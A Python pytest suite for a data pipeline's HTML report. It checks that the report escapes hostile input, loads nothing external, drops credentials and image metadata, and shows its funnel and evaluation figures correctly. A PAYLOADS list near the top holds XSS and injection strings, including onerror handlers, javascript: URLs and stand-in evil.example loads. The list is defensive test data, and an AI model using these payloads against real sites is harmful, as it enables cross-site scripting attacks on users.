"""The report: what it says, that it says it safely, and that it stands alone."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import numpy as np
import polars as pl
import pytest
from PIL import Image, PngImagePlugin

from contracts.uid import hex_uid, uid_of
from flows import run as runs
from flows.look import examples, report
from flows.look.views import RunView, Winnow
from flows.recipe import sections as recipes
from storage.store import Store
from tests.flows.look.page import VOID, Page

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "</bdi><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "</text></svg><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<form action="http://evil.example/"><input name=x autofocus onfocus=alert(1)>',
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "x onmouseover=alert(1)",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
    "{{7*7}}",
    "{% for x in y %}",
    "{# gone #}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "<style>*{background:url(http://evil.example/)}</style>",
    "width:100%;background:url(http://evil.example/)",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "=HYPERLINK('http://evil.example/')",
    "\\u003cscript\\u003ealert(1)",
    "]]></code>`;alert(1)//`",
    "＜script＞alert(1)＜/script＞",
)
TAGS = VOID | {
    "html", "head", "title", "style", "body", "header", "nav", "a", "main", "section", "h1", "h2",
    "h3", "p", "b", "bdi", "dl", "div", "dt", "dd", "small", "span", "i", "table", "thead", "tbody",
    "tr", "th", "td", "code", "pre", "details", "summary", "figure", "figcaption", "svg", "g",
    "text", "line", "rect", "circle",
}  # fmt: skip
ATTRIBUTES = {
    "lang", "charset", "http-equiv", "content", "name", "id", "class", "href", "src", "alt", "role",
    "aria-label", "style", "scope", "open", "viewbox", "x", "y", "x1", "x2", "y1", "y2", "width",
    "height", "cx", "cy", "r", "text-anchor", "dir",
}  # fmt: skip


def _ran(recipe_dir: Path, recipe: Mapping[str, Any]) -> RunView:
    store = Store(recipe_dir / ".winnow")
    parsed = recipes.parsed({"name": "web", **recipe}, recipe_dir=recipe_dir, name="web")
    runs.run(parsed, store, runs.Options(until="select"))
    return Winnow(store).run("web")


def _texts(recipe_dir: Path, rows: list[dict[str, Any]], *select: Mapping[str, Any]) -> RunView:
    """Run rules over JSON lines with the column `id`."""
    recipe_dir.mkdir(exist_ok=True)
    lines = "".join(json.dumps(row) + "\n" for row in rows)
    (recipe_dir / "t.jsonl").write_text(lines, encoding="utf-8")
    return _ran(recipe_dir, {"source": [{"path": "t.jsonl", "id": "id"}], "select": list(select)})


def _page(run: RunView) -> Page:
    return Page(report.render(run))


def _with(run: RunView, **result: Any) -> RunView:
    ref = run.runtime.store.ref("run", run.name)
    assert ref is not None
    return RunView(run.runtime.store, {**ref, "result": {**ref["result"], **result}})


def _with_evaluation(run: RunView, evaluation: Mapping[str, Any]) -> RunView:
    return _with(run, evaluation=evaluation)


def _evaluation(verdict: str = "better", name: str = "recall", seeds: int = 2) -> dict[str, Any]:
    values = {
        "untrained": ([0.01, 0.03] * seeds)[:seeds], "all": ([0.52, 0.54] * seeds)[:seeds],
        "random": ([0.41, 0.45] * seeds)[:seeds], "recipe": ([0.5, 0.58] * seeds)[:seeds],
    }  # fmt: skip
    gap = {"value": 0.11, "n": 2, "low": 0.0465, "high": 0.1735, "verdict": verdict}
    compared = {"recipe - random": gap, "all - random": {**gap, "value": 0.1}} if seeds > 1 else {}
    metric = {
        "higher_is_better": True,
        "values": values,
        "differences": compared,
        "within": {a: {"value": v[0], "n": 90, "low": 0.0, "high": 0.9} for a, v in values.items()},
    }
    answer = {"text": f"It is {verdict}: {name}.", "verdict": verdict, "metric": name}
    return {
        "answer": {**answer, "asked": 3} if compared else None,
        "claim": "set",
        "sealed": False,
        "objective": "clip",
        "steps": 1200,
        "seeds": list(range(seeds)),
        "arms": {arm: {"records": 1234, "draws": 2345, "trainings": seeds} for arm in values},
        "metrics": {"a first by name": metric, name: metric},
    }


# ------------------------------------------------------------------ hostile values


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> RunView:
    """A run in which each payload is a text, an id, a value, a column, a clause and a rule."""
    recipe_dir = tmp_path_factory.mktemp("hostile")
    folder = recipe_dir / "rows"
    folder.mkdir()
    shade = [_png(np.full((8, 8, 3), 5 * i)) for i in range(len(PAYLOADS))]
    rows = pl.DataFrame({"id": PAYLOADS, "text": PAYLOADS, "image": shade, "value": PAYLOADS})
    bad = rows[:3].with_columns(id=pl.lit("bad ") + pl.col("id"), image=pl.lit(b"nothing"))
    kept = rows[:1].with_columns(id=pl.lit("k"), text=pl.lit("kept"), value=pl.lit("none"))
    pl.concat([rows, bad, kept]).write_parquet(folder / f"{PAYLOADS[8][:-3]}>.parquet")
    notes = {_name(payload): range(len(PAYLOADS)) for payload in PAYLOADS}
    pl.DataFrame({"source_id": PAYLOADS, **notes}).write_parquet(recipe_dir / "notes.parquet")
    rules = [
        {"name": p, "where": f"meta.value <> {_quoted(p)} AND {_column(p)} IS DISTINCT FROM -1"}
        for p in PAYLOADS
    ]
    return _ran(recipe_dir, {
        "source": [{"path": "rows", "id": "id"}],
        "annotate": {"mine": {"file": "notes.parquet", "key": "source_id"}},
        "select": rules,
    })  # fmt: skip


def _png(pixels: np.ndarray[Any, Any]) -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(pixels.astype(np.uint8)).save(buffer, "PNG")
    return buffer.getvalue()


def _name(payload: str) -> str:
    """A payload as a column, in whose name a dot would separate."""
    return payload.replace(".", "_")


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _column(payload: str) -> str:
    return '"mine"."' + _name(payload).replace('"', '""') + '"'


def _hostile_evaluation() -> dict[str, Any]:
    """An evaluation in which each payload is a metric, and some are arm, verdict and objective."""
    plain = _evaluation(verdict=PAYLOADS[0], name=PAYLOADS[6])
    metric = plain["metrics"][PAYLOADS[6]]
    hidden = PAYLOADS[21]
    for table in ("values", "within"):
        metric[table][hidden] = metric[table]["all"]
    metric["differences"][f"{hidden} - random"] = metric["differences"]["all - random"]
    plain["arms"][hidden] = plain["arms"]["all"]
    return {**plain, "objective": PAYLOADS[1], "metrics": dict.fromkeys(PAYLOADS, metric)}


def test_no_value_becomes_a_tag_an_attribute_or_an_address(hostile):
    page = _page(_with_evaluation(hostile, _hostile_evaluation()))
    assert {tag for tag, _ in page.tags} <= TAGS
    assert {name for _, attrs in page.tags for name in attrs} <= ATTRIBUTES
    assert len(page.pictures) == len(PAYLOADS) + 1
    for tag, attrs in page.tags:
        if "href" in attrs:
            assert tag == "a"
            assert re.fullmatch(r"#[a-z]+", str(attrs["href"]))
        if "style" in attrs:
            assert re.fullmatch(r"(left:[\d.]+%;)?width:[\d.]+%", str(attrs["style"]))


def test_every_payload_is_found_again_as_text_wherever_it_stood(hostile):
    page = _page(_with_evaluation(hostile, _hostile_evaluation()))
    cards = page.part("examples")
    lines = cards.text.split("\n")
    clauses = [Page(h).text for h in re.findall(r"<h3>.*?</h3>", page.html)]
    funnel = [row[0] for row in page.part("funnel").rows()]
    metrics = [row[0] for row in page.part("evaluation").rows()]
    for payload in PAYLOADS:
        assert f"Dropped by {payload} 1 of 1" in lines
        assert payload in lines
        assert f"meta.value{examples.distinct(payload)}" in lines
        assert f"meta.value <> {_quoted(payload)}" in lines
        assert any(line.startswith(f"rows:{payload}") for line in lines)
        assert {"alt": payload} in [
            {"alt": attrs["alt"]} for tag, attrs in cards.tags if tag == "img"
        ]
        assert payload in funnel
        assert f"{_column(payload)} IS DISTINCT FROM -1" in clauses
        assert f"{payload}higher is better"[:79] in [metric[:79] for metric in metrics]
    assert f"Objective {PAYLOADS[1]}, 1,200 steps" in page.text
    assert f"It is {PAYLOADS[0]}: {PAYLOADS[6]}." in page.text


def test_a_hostile_file_name_and_id_are_text_in_the_quarantine(hostile):
    text = _page(hostile).part("quarantine").text
    assert text.count(f"rows:{PAYLOADS[8][:-3]}>.parquet#") == 3


def test_what_would_hide_or_reorder_is_shown_as_a_mark(tmp_path):
    rows = [
        {"id": "a", "text": "nice \u202egnp.exe \u200b\u2066x\ufeffy", "odd": "\x1b[31m\x9b\x7f"}
    ]
    run = _texts(tmp_path, [*rows, {"id": "b", "text": "b", "odd": "-"}],
                 {"name": "odd", "where": "meta.odd = '-'"})  # fmt: skip
    page = _page(run)
    assert "nice ⟨U+202E⟩gnp.exe ⟨U+200B⟩⟨U+2066⟩x⟨U+FEFF⟩y" in page.text
    assert "␛[31m⟨U+009B⟩␡" in page.text
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page.html)


def test_every_caption_stands_isolated_from_the_direction_of_its_neighbours(hostile):
    captions = re.findall(r'<p class="caption[^>]*>(.*?)</p>', report.render(hostile), re.DOTALL)
    assert len(captions) == len(PAYLOADS) + 1
    assert all(c.startswith("<bdi>") and c.endswith("</bdi>") for c in captions)


def test_signs_keep_their_order_beside_right_to_left_letters(tmp_path):
    where = '"meta"."ערך" < 20 AND meta.x >= 1'
    rows = [{"id": str(n), "text": "t", "ערך": n, "x": n} for n in range(1, 40)]
    page = _page(_texts(tmp_path, rows, {"name": "כלל ראשון", "where": where}))
    clause = '<bdi dir="ltr">&#34;meta&#34;.&#34;<bdi>ערך</bdi>&#34; &lt; 20</bdi>'
    assert clause in page.part("funnel").html
    assert f"<h3>{clause}</h3>" in page.html
    assert f'<p class="note">{clause}</p>' in page.html
    assert "<bdi>כלל ראשון</bdi>" in page.part("recipe").html
    assert '"meta"."ערך" < 20' in page.part("recipe").text.replace("\\", "")


def test_no_letter_is_smaller_than_13_px_and_a_cut_text_says_so(hostile):
    page = report.render(hostile)
    (style,) = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    sizes = [float(size) for size in re.findall(r"font(?:-size)?: *([\d.]+)px", style)]
    assert min(sizes) >= 13
    captions = re.findall(r"\.caption[^{]*\{([^}]*)\}", style)
    assert [re.findall(r"line-clamp: (\d+)", rule) for rule in captions[:2]] == [["8"], ["20"]]
    assert not re.search(r"max-height|overflow-y", "".join(captions))


def test_credentials_in_a_source_do_not_reach_the_page(tmp_path):
    run = _texts(tmp_path, [{"id": "a", "text": "a"}])
    ref = run.runtime.store.ref("run", "web")
    recipe = {**ref["recipe"], "source": [{"path": "s3://user:hunter2@host/x", "id": "id"}]}
    page = _page(RunView(run.runtime.store, {**ref, "recipe": recipe}))
    assert 'path = "s3://…@host/x"' in page.text
    assert "hunter2" not in page.html


# ------------------------------------------------------------------ alone and the same


def test_the_page_has_no_script_and_loads_nothing(hostile, pictures):
    for run in (hostile, pictures):
        page = _page(_with_evaluation(run, _evaluation()))
        policy = page.tags[3]
        assert policy == ("meta", {
            "http-equiv": "Content-Security-Policy",
            "content": "default-src 'none'; img-src data:; style-src 'unsafe-inline'",
        })  # fmt: skip
        style = re.findall(r"<style>(.*?)</style>", page.html, re.DOTALL)
        assert len(style) == 1
        assert not re.search(r"url\(|@import|expression|http", style[0])
        for _, attrs in page.tags:
            for name in ("src", "href"):
                assert re.match(r"#|data:image/jpeg;base64,", attrs.get(name) or "#")
        assert not [tag for tag, _ in page.tags if tag in ("script", "link", "iframe", "object")]
        assert page.html.startswith("<!DOCTYPE html>\n")


def test_a_run_has_one_report_byte_for_byte(pictures, tmp_path):
    report.write(pictures, tmp_path / "new" / "a.html")
    report.write(Winnow(pictures.runtime.store).run("web"), tmp_path / "new" / "b.html")
    first, second = sorted((tmp_path / "new").iterdir())
    assert first.read_bytes() == second.read_bytes()
    # The last line is the seal by which `verify` knows the page's bytes.
    assert first.read_text("utf-8").rpartition("<!--")[0].rstrip() == report.render(pictures)


# ------------------------------------------------------------------ what it says


@pytest.fixture(scope="module")
def pictures(tmp_path_factory: pytest.TempPathFactory) -> RunView:
    """30 pictures: 6 too wide, of the others 8 copies of one; 7 broken files of two kinds."""
    recipe_dir = tmp_path_factory.mktemp("pictures")
    folder = recipe_dir / "p"
    folder.mkdir()
    rng = np.random.default_rng(3)
    for i in range(30):
        size = (16, 300 if i < 6 else 20 + i % 3, 3)
        pixels = np.full(size, 90) if 6 <= i < 14 else rng.integers(0, 256, size)
        if 6 <= i < 14:
            pixels = np.full((16, 20, 3), 90)
        secret = PngImagePlugin.PngInfo()
        secret.add_text("Comment", "a secret place")
        Image.fromarray(pixels.astype(np.uint8)).save(folder / f"{i:02d}.png", pnginfo=secret)
        (folder / f"{i:02d}.txt").write_text(f"picture {i}", encoding="utf-8")
    for i in range(6):
        (folder / f"x{i}.png").write_bytes(b"nothing")
    (folder / "y.svg").write_bytes(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    return _ran(recipe_dir, {
        "source": [{"path": "p"}],
        "annotate": {
            "hash": {"step": "content_hash", "payload": "image"},
            "exact": {"step": "exact_clusters", "digest": "hash.digest"},
        },
        "select": [
            {"name": "narrow", "where": "width <= 100 AND caption_stats.words >= 1"},
            {"name": "one of each", "by": "one_per_cluster", "cluster": "exact.cluster"},
            {"name": "ten", "by": "random_sample", "budget": 10},
        ],
    })  # fmt: skip


def test_the_numbers_are_those_of_the_funnel_and_add_up(pictures):
    page = _page(pictures)
    rows = page.part("funnel").rows()
    assert [row[:5] for row in rows[1:]] == [
        ["all records", "30", "", "", "30"],
        ["narrow", "30", "6", "", "24"],
        ["width <= 100", "", "6", "", ""],
        ["caption_stats.words >= 1", "", "0", "", ""],
        ["one of each", "24", "7", "", "17"],
        ["ten", "17", "7", "", "10"],
    ]
    assert "30 records = 10 kept + 20 dropped." in page.text
    groups = re.findall(r"(Dropped by [\w ]+|Kept) (\d+) of (\d+)", page.part("examples").text)
    assert groups == [
        ("Dropped by narrow", "6", "6"), ("Dropped by one of each", "7", "7"),
        ("Dropped by ten", "7", "7"), ("Kept", "10", "10"),
    ]  # fmt: skip


def test_the_bars_of_the_funnel_are_shares_of_the_pool(pictures):
    rows = report._funnel(pictures)
    assert [r.begins * 30 for r in rows] == pytest.approx([30, 24, 24, 30, 17, 10])
    assert [r.width * 30 for r in rows] == pytest.approx([0, 6, 6, 0, 7, 7])


def test_a_dropped_copy_stands_beside_the_picture_that_was_kept_for_it(pictures):
    html = report.render(pictures)
    figures = r'<div class="pair">.*?</figure>.*?</figure>\s*</div>'
    pairs = [Page(pair) for pair in re.findall(figures, html, re.DOTALL)]
    assert len(pairs) == 7
    uids = {hex_uid(uid_of("p", f"{i:02d}.png")) for i in range(6, 14)}
    keeper = min(uids)
    for pair in pairs:
        copy, twin = re.findall(r"<code>(\w{16})</code>", pair.html)
        assert (copy in uids - {keeper}, twin) == (True, keeper)
        assert "dropped: exact, distance 0" in pair.text
        assert pair.text.index("dropped: exact, distance 0") < pair.text.index("kept in its place")


def test_pictures_are_small_jpegs_made_anew_that_carry_nothing_else(pictures):
    page = _page(pictures)
    # Of each rule, the pairs of the second, kept, and the first eight of the one cluster.
    assert len(page.pictures) == 6 + 2 * 7 + 7 + 10 + 8
    assert max(max(Image.open(io.BytesIO(p)).size) for p in page.pictures) == examples.THUMBNAIL_PX
    for picture in page.pictures:
        opened = Image.open(io.BytesIO(picture))
        assert (opened.format, opened.getexif(), b"secret" in picture) == ("JPEG", {}, False)
    assert all(attrs["alt"] for tag, attrs in page.tags if tag == "img")


def test_the_largest_clusters_are_shown_with_the_fate_of_their_records(pictures):
    found = examples.clusters(pictures)
    assert list(found) == ["exact"]
    (cluster,) = found["exact"]
    assert (cluster.size, len(cluster.cards)) == (8, 8)
    notes = [card.note for card in cluster.cards]
    assert notes[0] == "dropped by ten"
    assert set(notes[1:]) == {"dropped by one of each"}
    assert all(card.picture for card in cluster.cards)
    assert "exact, 8 records" in _page(pictures).part("clusters").text


def test_a_kept_record_of_a_cluster_has_the_colour_of_the_kept(run):
    cards = [c for of in examples.clusters(run).values() for cluster in of for c in cluster.cards]
    kept = [card for card in cards if card.note == "kept"]
    assert 0 < len(kept) < len(cards)
    assert report.render(run).count('<p class="note kept">') == len(kept)


def test_canaries_are_a_table_by_kind(pictures):
    found = {
        "crop": {"planted": 40, "untested": 4, "caught": 9, "recall": 0.25},
        "near_miss": {"planted": 40, "untested": 0, "merged": 2, "false_merge_ratio": 0.05},
    }
    assert "canaries" not in report.render(pictures)
    rows = _page(_with(pictures, canaries=found)).part("canaries").rows()
    assert rows[1:] == [["crop", "40", "4", "25.0%", ""], ["near_miss", "40", "0", "", "5.0%"]]


def test_clusters_scored_against_labels_are_a_table(pictures):
    metric = {"value": 0.75, "n": 8, "low": 0.5, "high": 1.0}
    scored = {"a.cluster, meta.x": {"precision": metric}, "<b>, meta.x": {"precision": metric}}
    part = _page(_with(pictures, duplicates=scored)).part("duplicates")
    assert [row[0] for row in part.rows()] == ["Cluster, label", "a.cluster, meta.x", "<b>, meta.x"]
    assert "0.75" in part.text


def test_the_quarantine_is_counted_by_reason_with_five_places(pictures):
    rows = _page(pictures).part("quarantine").rows()[1:]
    assert [row[1] for row in rows] == ["6", "1"]
    assert [len(re.findall(r"p:\S+", row[2])) for row in rows] == [5, 1]
    assert "p:x0.png" in rows[0][2]


def test_the_clauses_of_a_rule_take_turns_among_twelve_examples(tmp_path):
    rows = [{"id": str(i), "text": "t", "n": i} for i in range(1000)]
    where = "meta.n <> 7 AND meta.n <> 8 AND meta.n < 50"
    run = _texts(tmp_path, rows, {"name": "r", "where": where})
    (dropped, _) = examples.examples(run, examples.types_of(run))
    assert dropped.records == 952
    notes = ["meta.n < 50", "meta.n <> 7", "meta.n <> 8", *["meta.n < 50"] * 9]
    assert [card.note for card in dropped.cards] == notes
    assert dropped.cards[1].values == (("meta.n", "7"),)


def test_a_page_that_would_grow_beyond_20_mb_shows_fewer_examples(tmp_path):
    folder = tmp_path / "p"
    folder.mkdir()
    noise = _png(np.random.default_rng(0).integers(0, 256, (224, 224, 3)))
    for i in range(480):
        (folder / f"{i:03d}.png").write_bytes(noise)
        (folder / f"{i:03d}.txt").write_text(f"{i // 12}", encoding="utf-8")
    rules = [{"name": f"not {k}", "where": f"text <> '{k}'"} for k in range(39)]
    run = _ran(tmp_path, {"source": [{"path": "p"}], "select": rules})
    html = report.render(run)
    assert len(html.encode()) <= 20_000_000
    assert "At most 6 a rule" in html
    assert "6 of 12" in Page(html).text


def test_what_a_run_has_not_is_left_out_or_said(tmp_path):
    page = _page(_texts(tmp_path, [{"id": "a", "text": "a"}, {"id": "b", "text": "b"}]))
    assert [str(attrs["id"]) for tag, attrs in page.tags if tag == "section"] == [
        "funnel", "examples", "quarantine", "recipe", "versions",
    ]  # fmt: skip
    assert "2 of 2 records kept" in page.text
    one = _page(_texts(tmp_path / "one", [{"id": "a", "text": "a"}])).text
    assert "1 of 1 record kept" in one
    assert "1 record = 1 kept + 0 dropped." in one
    assert "1 records" not in one
    assert "Nothing was quarantined." in page.text
    links = {str(a["href"])[1:] for t, a in page.tags if t == "a"}
    assert links == {str(a["id"]) for t, a in page.tags if t == "section"}


def test_the_recipe_is_shown_resolved_in_the_order_of_its_sections(pictures):
    text = _page(pictures).part("recipe").text
    sections = ["[[source]]", "[annotate.caption_stats]", "[[select]]"]
    assert sorted(sections, key=text.index) == sections
    assert 'where = "width <= 100 AND caption_stats.words >= 1"' in text


# ------------------------------------------------------------------ evaluation


SIGNS = {
    "better": "▲", "worse": "▼", "no measurable difference": "=", "this protocol cannot tell": "?",
}  # fmt: skip


@pytest.mark.parametrize(
    ("verdict", "heading"),
    [
        ("better", "Better than random sets of equal size"),
        ("worse", "Worse than random sets of equal size"),
        ("no measurable difference", "No measurable difference to random sets of equal size"),
        ("this protocol cannot tell", "This protocol cannot tell"),
    ],
)
def test_the_answer_stands_first_with_interval_trainings_and_steps(pictures, verdict, heading):
    page = _page(_with_evaluation(pictures, _evaluation(verdict)))
    top = page.text[: page.text.index("Rules are applied in order")]
    assert heading in top
    assert f"It is {verdict}: recall." in top
    assert f"+0.110 [+0.046, +0.173] {SIGNS[verdict]} {verdict}" in top
    assert "Trainings8 1,200 steps each" in top


def test_the_metric_of_the_answer_and_the_recipe_come_first(pictures):
    rows = _page(_with_evaluation(pictures, _evaluation())).part("evaluation").rows()
    assert [row[0] for row in rows[1:5]] == ["recipe", "random", "all", "untrained"]
    assert rows[1][1:] == ["1,234", "2,345"]
    first = rows[6]
    assert first[0].startswith("recall")
    assert first[1:6] == ["0.540", "0.430", "0.530", "0.020", "+0.110[+0.046, +0.173]"]


def test_the_cells_of_a_grid_and_the_steps_saved_are_shown(pictures):
    cell = {
        "lr": 0.001, "budget": 1, "steps": 1200, "state": "trained", "recipe": 0.25, "random": 0.5,
        "difference": -0.25, "low": -0.375, "high": -0.125, "verdict": "worse", "decides": False,
        "contradicts": True,
    }  # fmt: skip
    cells = [
        cell,
        {**cell, "lr": 0.00033, "state": "not trained enough", "contradicts": False},
        {**cell, "steps": 4800, "verdict": "better", "decides": True, "contradicts": False},
        {**dict.fromkeys(cell), "lr": 0.0001, "steps": 2400, "state": "diverged"},
    ]
    evaluation = _evaluation()
    saved = {"value": 1.5, "low": "< 1", "high": "> 4"}
    evaluation["answer"] |= {"cells": cells, "steps_saved": saved}
    page = _page(_with_evaluation(pictures, evaluation))
    rows = page.part("evaluation").rows()
    assert [row for row in rows if row[0].startswith("0.00")] == [
        ["0.001 contradicts", "1,200", "0.250", "0.500", "-0.250[-0.375, -0.125]", "▼ worse"],
        ["0.00033", "1,200", "0.250", "0.500", "-0.250[-0.375, -0.125]", "not trained enough"],
        ["0.001 decides", "4,800", "0.250", "0.500", "-0.250[-0.375, -0.125]", "▲ better"],
        ["0.0001", "2,400", "", "", "", "diverged"],
    ]
    assert "Steps saved1.50 [< 1, > 4], random's by the recipe's" in page.text
    plain = _page(_with_evaluation(pictures, _evaluation()))
    assert "Steps saved" not in plain.text
    assert "Rates and budgets" not in plain.text


def test_the_deciding_difference_is_drawn_with_its_interval_zero_and_every_random_set(pictures):
    run = _with_evaluation(pictures, _evaluation())
    (first, _) = report._comparisons(run.result["evaluation"])
    assert first.dots == pytest.approx([-0.02, 0.02])
    scale = first.difference_axis
    assert scale.low < 0 < 0.1735 < scale.high
    drawn = _panel(report.render(run), "panel deciding")
    assert _places(drawn, "line", "interval kept") == [(scale.at(0.0465), scale.at(0.1735))]
    assert _places(drawn, "circle", "kept mean") == [scale.at(0.11)]
    assert _places(drawn, "circle", "seed") == [scale.at(gap) for gap in first.dots]
    assert _places(drawn, "line", "mark") == [(scale.at(0), scale.at(0))]
    assert "← random better" in drawn.text
    assert "recipe better →" in drawn.text


def test_sides_and_signs_turn_where_lower_is_better(pictures):
    evaluation = _evaluation()
    for metric in evaluation["metrics"].values():
        metric["higher_is_better"] = False
    (first, _) = report._comparisons(evaluation)
    drawn = _panel(report.render(_with_evaluation(pictures, evaluation)), "panel deciding")
    assert "← recipe better" in drawn.text
    # Of random's mean of 0.43, what is higher by 0.11 is worse by 25.6 %.
    assert first.relative == pytest.approx(
        {"low": -17.35 / 0.43, "value": -11 / 0.43, "high": -4.65 / 0.43}
    )


def test_only_recipe_random_and_all_stand_beside_the_answer(pictures):
    run = _with_evaluation(pictures, _evaluation())
    (first, _) = report._comparisons(run.result["evaluation"])
    assert first.drawn_arms == ["recipe", "random", "all"]
    assert first.value_axis.low > 0.03
    top = _panel(report.render(run), "answer")
    assert "untrained" not in top.text
    assert _places(top, "circle", "kept") == [first.value_axis.at(v) for v in (0.5, 0.58)]
    assert _places(top, "line", "mean") == [
        (first.value_axis.at(mean),) * 2 for mean in (0.54, 0.43, 0.53)
    ]


def test_every_metric_is_a_row_of_one_forest_plot_and_the_deciding_one_is_marked(pictures):
    evaluation = _evaluation()
    evaluation["metrics"]["rank"] = {
        **evaluation["metrics"]["recall"],
        "higher_is_better": False,
        "differences": {"recipe - random": {
            "value": -0.43, "n": 2, "low": -0.86, "high": 0.43,
            "verdict": "no measurable difference",
        }},
    }  # fmt: skip
    run = _with_evaluation(pictures, evaluation)
    forest = _panel(report.render(run), "panel forest")
    scale = report._forest_axis(report._comparisons(evaluation))
    assert scale is not None
    assert _places(forest, "line", "mark") == [(scale.at(0),) * 2] * 3
    assert _places(forest, "line", "interval other") == [(scale.at(-100), scale.at(200))]
    assert _places(forest, "circle", "other mean") == [scale.at(100)]
    assert (
        _places(forest, "line", "interval kept")
        == [(scale.at(4.65 / 0.43), scale.at(17.35 / 0.43))] * 2
    )
    assert forest.text.count("decides") == 1
    assert "recallhigher is better decides" in forest.text
    assert "lower is better, drawn mirrored" in forest.text
    assert "Only it was fixed before anything was trained" in _page(run).part("evaluation").text


def test_a_metric_whose_random_mean_is_zero_is_told_and_not_drawn(pictures):
    evaluation = _evaluation()
    evaluation["metrics"] = {
        name: {**metric, "values": {**metric["values"], "random": [0.0, 0.0]}}
        for name, metric in evaluation["metrics"].items()
    }
    page = _page(_with_evaluation(pictures, evaluation))
    assert 'class="panel forest"' not in page.html
    assert "+0.110[+0.046, +0.173]" in [
        row[5] for row in page.part("evaluation").rows() if len(row) > 5
    ]


def _panel(html: str, name: str) -> Page:
    """A panel of the page by its class, up to the next heading, taken apart."""
    start = html.index(f'<div class="{name}">')
    depth = 0
    for found in re.finditer(r"<(/?)div", html[start:]):
        depth += -1 if found[1] else 1
        if not depth:
            return Page(html[start : start + found.end()] + ">")
    raise AssertionError(name)


def _places(page: Page, tag: str, name: str) -> list[Any]:
    """Where the shapes of a class stand, in percent of the width."""
    found = [attrs for shape, attrs in page.tags if shape == tag and attrs.get("class") == name]
    keys = ("cx",) if tag == "circle" else ("x1", "x2")
    places = [tuple(float(str(attrs[key]).removesuffix("%")) for key in keys) for attrs in found]
    return [place[0] for place in places] if tag == "circle" else places


def test_of_parts_every_part_s_difference_is_drawn(pictures):
    run = _with_evaluation(pictures, {**_evaluation(), "claim": "rule"})
    (first, _) = report._comparisons(run.result["evaluation"])
    assert first.dots == pytest.approx([0.09, 0.13])
    drawn = _panel(report.render(run), "panel deciding")
    assert _places(drawn, "circle", "seed") == [first.difference_axis.at(d) for d in first.dots]
    assert "one part" in drawn.text
    assert "paired over disjoint parts" in _page(run).part("evaluation").text


def test_a_run_of_before_there_were_claims_shows_its_text_alone(pictures):
    before = {k: v for k, v in _evaluation().items() if k != "claim"}
    page = _page(_with_evaluation(pictures, before))
    assert "It is better: recall." in page.text
    assert 'id="evaluation"' not in page.html


def test_the_metric_that_answers_what_is_passed_over_and_what_is_no_score_are_said(pictures):
    evaluation = _evaluation()
    evaluation["metrics"]["l2"] = {
        **evaluation["metrics"]["recall"], "higher_is_better": None, "differences": {},
    }  # fmt: skip
    evaluation |= {
        "passed_over": {"knn": {"without a text": 3, "without a label": 1}},
        "unencoded": {"untrained": [{"image": 9}, {}]},
    }
    text = _page(_with_evaluation(pictures, evaluation)).part("evaluation").text
    assert "The answer rests on one metric, recall." in text
    assert "This hold-out was asked 3 different questions." in text
    assert "knn passes over held-out records 3 without a text, 1 without a label." in text
    assert "no vector, which score nothing; by training: 9 image; none." in text
    assert "no score" in text


def test_one_seed_gives_no_verdict_but_its_values_and_bootstraps(pictures):
    page = _page(_with_evaluation(pictures, _evaluation(seeds=1)))
    assert "10 of 30 records kept" in page.text
    assert "a comparison needs two random sets or more" in page.text
    assert "of one training the 95 % bootstrap over items" in page.text
    assert "recipe - random" not in page.text


@pytest.mark.parametrize(
    ("value", "sign", "shown"),
    [
        (0.1234, "", "0.123"),
        (-0.0001, "+", "+0.000"),
        (1234.56, "", "1,234.6"),
        (-12, "+", "-12.0"),
    ],
)
def test_a_metric_has_three_decimals_or_one(value, sign, shown):
    assert report._metric(value, sign) == shown
